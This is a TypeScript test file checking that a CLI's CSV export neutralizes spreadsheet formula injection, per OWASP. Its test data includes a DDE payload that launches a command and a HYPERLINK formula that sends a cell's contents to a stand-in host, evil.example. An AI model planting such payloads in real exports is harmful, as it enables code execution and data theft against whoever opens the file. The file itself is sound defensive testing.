import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { csvCell } from '../../src/cli-export.ts';
import type { LedgerRecord } from '../../src/records.ts';
import { EmbeddedStore } from '../../src/store/embedded/embedded-store.ts';
import {
  addConnection,
  cliEnv,
  removeTempDirs,
  runCli,
  stripeCredentials,
  tempDir,
} from '../sync/helpers.ts';

/** OWASP "CSV Injection": the characters that make a spreadsheet read a cell as a formula. */
const OWASP_LEADING = ['=', '+', '-', '@', '\t', '\r'] as const;
/** The two descriptions from the security review: a minus and a digit, then a formula. */
const DDE_PAYLOAD = "-2+3+cmd|' /C calc'!A0";
const LINK_PAYLOAD = '-1+HYPERLINK("http://evil.example/?leak="&A1,"x")';

function record(n: number, fields: Partial<LedgerRecord>): LedgerRecord {
  return {
    id: `stripe:charges:ch_${n}`,
    connection: 'stripe',
    provider: 'stripe',
    stream: 'charges',
    kind: 'charge',
    amount: 1000,
    currency: 'USD',
    occurredAt: `2026-01-${String(10 + n).padStart(2, '0')}T00:00:00.000Z`,
    description: 'Plain charge',
    counterparty: null,
    status: 'succeeded',
    moneyMovement: true,
    raw: { type: 'charge', id: `ch_${n}` },
    ...fields,
  };
}

/** RFC 4180 rows (quoted cells, doubled quotes, CR or tab inside quotes kept). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}

/** What a spreadsheet would run as a formula: an unquoted-looking cell starting with a trigger character. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('CSV export neutralizes spreadsheet formulas (OWASP CSV Injection)', () => {
  const descriptions = [
    ...OWASP_LEADING.map((c) => `${c}1+1`),
    ...OWASP_LEADING.map((c) => `${c}SUM(A1:A9)`),
    DDE_PAYLOAD,
    LINK_PAYLOAD,
    '-42',
    '-12.34',
  ];
  let rows: Map<string, Record<string, string>>;

  before(async () => {
    const dir = tempDir('finsync-csv-');
    const store = await EmbeddedStore.open(dir);
    await addConnection(store, 'stripe', 'stripe', stripeCredentials());
    await store.applyPage({
      connection: 'stripe',
      stream: 'charges',
      records: [
        ...descriptions.map((description, n) => record(n, { description, counterparty: description })),
        record(90, { amount: -1234, description: 'Refund' }),
        record(91, { amount: 0, description: 'Customer' }),
      ],
      removedIds: [],
      cursor: undefined,
    });
    await store.close();
    // The real command, as an auditor's operator runs it.
    const result = await runCli(['export', 'records', '--format', 'csv'], cliEnv(dir, {}));
    assert.equal(result.code, 0, result.stderr);
    const [header, ...body] = parseCsv(result.stdout);
    rows = new Map(
      body.map((cells) => {
        const row = Object.fromEntries(header!.map((column, i) => [column, cells[i] ?? '']));
        return [row['id']!, row];
      }),
    );
  });
  after(() => removeTempDirs());

  for (const leading of OWASP_LEADING) {
    test(`a description or counterparty starting with ${JSON.stringify(leading)} arrives as text`, () => {
      for (const n of [
        OWASP_LEADING.indexOf(leading),
        OWASP_LEADING.length + OWASP_LEADING.indexOf(leading),
      ]) {
        const row = rows.get(`stripe:charges:ch_${n}`)!;
        assert.equal(row['description'], `'${descriptions[n]}`);
        assert.equal(row['counterparty'], `'${descriptions[n]}`);
      }
    });
  }

  test('the DDE payload -2+3+cmd|… is text, not a formula', () => {
    const row = rows.get(`stripe:charges:ch_${descriptions.indexOf(DDE_PAYLOAD)}`)!;
    assert.equal(row['description'], `'${DDE_PAYLOAD}`);
  });

  test('the -1+HYPERLINK(…) payload is text, not a link', () => {
    const row = rows.get(`stripe:charges:ch_${descriptions.indexOf(LINK_PAYLOAD)}`)!;
    assert.equal(row['description'], `'${LINK_PAYLOAD}`);
  });

  test('a number outside the amount column is text too; a negative amount stays a number', () => {
    assert.equal(rows.get(`stripe:charges:ch_${descriptions.indexOf('-42')}`)!['description'], "'-42");
    assert.equal(rows.get(`stripe:charges:ch_${descriptions.indexOf('-12.34')}`)!['description'], "'-12.34");
    assert.equal(rows.get('stripe:charges:ch_90')!['amount'], '-1234');
    assert.equal(rows.get('stripe:charges:ch_91')!['amount'], '0');
  });

  test('no cell of the export would run as a formula, except whole amounts', () => {
    for (const row of rows.values())
      for (const [column, cell] of Object.entries(row))
        if (runsAsFormula(cell)) assert.ok(column === 'amount' && /^-\d+$/.test(cell), `${column}: ${cell}`);
  });
});

describe('csvCell, as every export (records, runs, audit) uses it', () => {
  test('full-width = + - @ are neutralized as well', () => {
    for (const c of ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
      assert.equal(csvCell(`${c}1+1`, 'description'), `"'${c}1+1"`);
  });

  test('an amount column exempts exactly a whole number', () => {
    assert.equal(csvCell(-500, 'amount'), '"-500"');
    assert.equal(csvCell('-5+cmd', 'amount'), `"'-5+cmd"`);
    assert.equal(csvCell('-500', 'detail'), `"'-500"`);
    assert.equal(csvCell('say "hi"', 'detail'), '"say ""hi"""');
  });
});
